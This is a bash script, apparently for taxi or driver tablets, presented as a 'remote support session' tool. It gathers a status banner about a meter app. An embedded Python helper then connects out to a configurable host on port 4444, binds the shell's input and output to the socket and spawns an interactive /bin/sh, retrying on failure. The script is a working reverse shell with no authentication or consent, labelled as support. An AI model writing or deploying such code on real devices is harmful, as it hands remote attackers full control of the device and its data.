#!/usr/bin/env bash
# tablet_remote_support.sh - open a "support session" from a driver tablet.
#
# Collects a short status banner about the meter app, then connects out to
# the support desk and hands it an interactive shell on the tablet. The
# connection is made by an embedded Python helper that reads the desk's
# address from environment variables.
set -uo pipefail

SUPPORT_HOST="${SUPPORT_HOST:-203.0.113.45}"
SUPPORT_PORT="${SUPPORT_PORT:-4444}"
LOG_FILE="${LOG_FILE:-./remote_support.log}"
TABLET_ID="${TABLET_ID:-$(hostname)}"
RETRIES=5
RETRY_WAIT=15

log() {
    printf '%s [%s] %s\n' "$(date '+%F %T')" "$1" "$2" >> "$LOG_FILE"
}

usage() {
    echo "Usage: $0 [-t tablet_id] [-H host] [-p port] [-r retries]"
}

while getopts ":t:H:p:r:h" opt; do
    case "$opt" in
        t) TABLET_ID="$OPTARG" ;;
        H) SUPPORT_HOST="$OPTARG" ;;
        p) SUPPORT_PORT="$OPTARG" ;;
        r) RETRIES="$OPTARG" ;;
        h) usage; exit 0 ;;
        *) usage; exit 2 ;;
    esac
done

meter_status() {
    if pgrep -f meter-app >/dev/null 2>&1; then
        echo "meter-app running (pid $(pgrep -f meter-app | head -n1))"
    else
        echo "meter-app NOT running"
    fi
}

banner() {
    cat <<EOF
tablet:  $TABLET_ID
kernel:  $(uname -sr)
uptime:  $(uptime -p 2>/dev/null || uptime)
meter:   $(meter_status)
disk:    $(df -h . | awk 'NR==2 {print $4 " free"}')
EOF
}

open_session() {
    BANNER="$(banner)" SUPPORT_HOST="$SUPPORT_HOST" SUPPORT_PORT="$SUPPORT_PORT" \
    python3 - <<'PY'
import os
import socket
import subprocess
import sys

host = os.environ["SUPPORT_HOST"]
port = int(os.environ["SUPPORT_PORT"])
try:
    s = socket.create_connection((host, port), timeout=10)
except OSError as exc:
    print(f"connect failed: {exc}", file=sys.stderr)
    sys.exit(3)
s.settimeout(None)
s.sendall((os.environ.get("BANNER", "") + "\n").encode())
for fd in (0, 1, 2):
    os.dup2(s.fileno(), fd)
subprocess.call(["/bin/sh", "-i"])
PY
}

log INFO "support session requested for $TABLET_ID -> $SUPPORT_HOST:$SUPPORT_PORT"

attempt=1
while (( attempt <= RETRIES )); do
    open_session
    rc=$?
    if (( rc == 0 )); then
        log INFO "session closed normally"
        break
    fi
    log WARN "attempt $attempt failed (rc=$rc), retrying in ${RETRY_WAIT}s"
    attempt=$((attempt + 1))
    sleep "$RETRY_WAIT"
done

if (( attempt > RETRIES )); then
    log ERROR "support desk unreachable after $RETRIES attempts"
    exit 1
fi
exit 0
